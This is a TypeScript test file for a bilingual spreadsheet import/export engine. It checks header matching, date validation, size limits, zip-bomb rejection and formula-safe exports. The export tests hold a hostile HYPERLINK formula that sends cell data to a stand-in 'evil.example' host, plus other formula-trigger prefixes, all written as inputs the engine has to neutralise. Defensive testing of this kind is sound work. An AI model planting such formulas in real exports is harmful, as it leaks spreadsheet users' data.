import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { csvWithRows, lyingXlsx, xlsxBomb, zipOf } from '../../../test/support/hostile-spreadsheets.ts';
import { peopleImport } from '../../../test/support/spreadsheet-fixtures.ts';
import { closeSpreadsheetWorkers, parseSpreadsheet } from './parse-in-worker.ts';
import { parsers } from './parsers.ts';
import { readSpreadsheet } from './read-table.ts';
import { importTemplate } from './template.ts';
import { validateSpreadsheet } from './validate-spreadsheet.ts';
import { toCsv, toXlsx } from './write-spreadsheet.ts';

afterAll(() => closeSpreadsheetWorkers());

const csv = (text: string) => new TextEncoder().encode(text);
const options = { maxSeats: 4 };

describe('the spreadsheet engine: columns as data', () => {
  it('matches headers in either language without accents and reads each cell with its column parser', async () => {
    const file = csv('FULL NAME;ngay sinh;Cho\nAn;15/03/1990;2\nBình;31/02/1990;x\nChi;01/01/1890;11\nan;01/01/2000;1\nDũng;02/02/2002;\nEm;03/03/2003;5\n');
    const outcome = await validateSpreadsheet(peopleImport, file, 'people.csv', options);
    if (!outcome.ok) throw new Error(outcome.failure.code);
    const { rows, problems } = outcome.result;
    expect(rows).toEqual([
      { name: 'An', born: '1990-03-15', seats: 2 },
      { name: 'Dũng', born: '2002-02-02', seats: 1 },
    ]);
    expect(problems.map((p) => `${p.row}:${p.column}:${p.code}`)).toEqual([
      '3:ngay sinh:bad_date',
      '3:Cho:bad_number',
      '4:ngay sinh:bad_date',
      '4:Cho:number_out_of_range',
      '5:FULL NAME:duplicate_row',
      '7:Cho:too_many_seats',
    ]);
    expect(problems[0]?.message.en).toContain('1900 to 2200');
    expect(problems[4]?.message.vi).toContain('dòng 2');
  });

  it('reports missing required columns once, in both languages', async () => {
    const outcome = await validateSpreadsheet(peopleImport, csv('Tên,Chỗ\nAn,1\n'), 'p.csv', options);
    expect(outcome.ok && outcome.result.problems).toEqual([
      { row: 1, column: 'Ngày sinh', code: 'missing_column', message: { vi: 'Thiếu cột bắt buộc "Ngày sinh".', en: 'Required column "Date of birth" is missing.' } },
    ]);
  });

  it('reads dates from 1900 to 2200 only', () => {
    const date = parsers.date();
    expect(date('31/12/2200')).toEqual({ ok: true, value: '2200-12-31' });
    expect(date('01/01/1900')).toEqual({ ok: true, value: '1900-01-01' });
    for (const bad of ['01/01/2201', '31/12/1899', '0000-01-01', '9999-12-31', new Date(Date.UTC(9999, 0, 1))]) {
      expect(date(bad)).toMatchObject({ ok: false, code: 'bad_date' });
    }
  });

  it('makes a template from the columns that reads back as the import expects', async () => {
    const template = await importTemplate(peopleImport.columns, 'xlsx', [['An', '15/03/1990', 2]]);
    const outcome = await validateSpreadsheet(peopleImport, template, 'mau.xlsx', options);
    expect(outcome.ok && outcome.result).toMatchObject({ problems: [], rows: [{ name: 'An', born: '1990-03-15', seats: 2 }] });
  });
});

describe('the spreadsheet engine: bounded reading', () => {
  it('refuses a 200,000-row CSV at the row limit, off the request thread, stating the limit', async () => {
    const outcome = await parseSpreadsheet(peopleImport, csvWithRows(200_000), 'big.csv', options);
    expect(outcome).toMatchObject({ ok: false, failure: { kind: 'limit', code: 'too_many_rows' } });
    expect(!outcome.ok && outcome.failure.message.en).toContain('20,000');
  });

  it('refuses a file past the byte limit as it arrives', async () => {
    const small = { ...peopleImport, limits: { maxBytes: 1000 } };
    async function* slowly() {
      for (let i = 0; i < 100; i++) yield csv('An,15/03/1990,1\n'.repeat(10));
    }
    const outcome = await validateSpreadsheet(small, slowly(), 'p.csv', options);
    expect(outcome).toMatchObject({ ok: false, failure: { code: 'file_too_large' } });
    expect(!outcome.ok && outcome.failure.message.vi).toContain('1 KB');
  });

  it('refuses a zip part by its declared inflated size before inflating anything', async () => {
    // The "deflated" data is noise: inflating it would fail as damaged, not as too large.
    const bomb = zipOf([{ name: 'xl/worksheets/sheet1.xml', deflated: Buffer.alloc(1_200_000, 7), size: 1_213_328_384, crc: 0 }]);
    const outcome = await validateSpreadsheet(peopleImport, bomb, 'bomb.xlsx', options);
    expect(outcome).toMatchObject({ ok: false, failure: { kind: 'limit', code: 'entry_too_large' } });
    expect(!outcome.ok && outcome.failure.message.en).toMatch(/1\.13 GiB, past the 64 MB limit/);
  });

  it('refuses a real zip bomb, and a zip that inflates past the size it declares', async () => {
    const bomb = xlsxBomb(256 * 1024 * 1024);
    expect(bomb.length).toBeLessThan(400_000);
    expect(await validateSpreadsheet(peopleImport, bomb, 'bomb.xlsx', options)).toMatchObject({ ok: false, failure: { code: 'entry_too_large' } });
    const liar = lyingXlsx(8 * 1024 * 1024, 2048);
    expect(await validateSpreadsheet(peopleImport, liar, 'liar.xlsx', options)).toMatchObject({ ok: false, failure: { kind: 'read', code: 'unreadable' } });
  });

  it('reads in the worker exactly what it reads in this thread', async () => {
    const file = csv('Họ và tên,Ngày sinh\nAn,15/03/1990\nBình,x\n');
    const here = await validateSpreadsheet(peopleImport, file, 'p.csv', options);
    async function* inTwoChunks() {
      yield file.subarray(0, 20);
      yield file.subarray(20);
    }
    const there = await parseSpreadsheet(peopleImport, inTwoChunks(), 'p.csv', options);
    expect(there).toEqual(here);
  });
});

describe('the spreadsheet engine: formula-safe exports', () => {
  const hostile = ['=HYPERLINK("http://evil.example/steal?d="&B3,"Xem chi tiết")', '+1+2', '-3+4', '@SUM(A1)', '\t=1', '\r=1', 'Chè Thái'];

  it('prefixes every text cell that a spreadsheet would run as a formula, in .csv', () => {
    const text = toCsv(['Tên', 'Giá'], hostile.map((name) => [name, -5])).toString('utf8');
    const lines = text.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/steal?d=""&B3,""Xem chi tiết"")",-5`);
    expect(lines.slice(2, 7).map((line) => line.replace(/^"/, '').slice(0, 2))).toEqual(["'+", "'-", "'@", "'\t", "'\r"]);
    expect(lines[7]).toBe('Chè Thái,-5');
  });

  it('does the same in .xlsx, and the engine reads both back to the original text', async () => {
    const xlsx = await toXlsx([{ name: 'S', headers: ['Họ và tên', 'Ngày sinh'], rows: hostile.map((name) => [name, '15/03/1990']) }]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
    expect(workbook.worksheets[0]?.getCell('A2').value).toBe(`'${hostile[0]}`);
    for (const file of [{ bytes: xlsx, name: 'x.xlsx' }, { bytes: toCsv(['Họ và tên', 'Ngày sinh'], hostile.map((name) => [name, '15/03/1990'])), name: 'x.csv' }]) {
      const table = await readSpreadsheet(file.bytes, file.name);
      // XML keeps no carriage return (it reads as a line feed): compare with white space as spaces.
      const spaced = (text: unknown) => String(text).replace(/\s/g, ' ');
      expect(table.rows.map((row) => spaced(row.cells[0]))).toEqual(hostile.map(spaced));
    }
  });
});
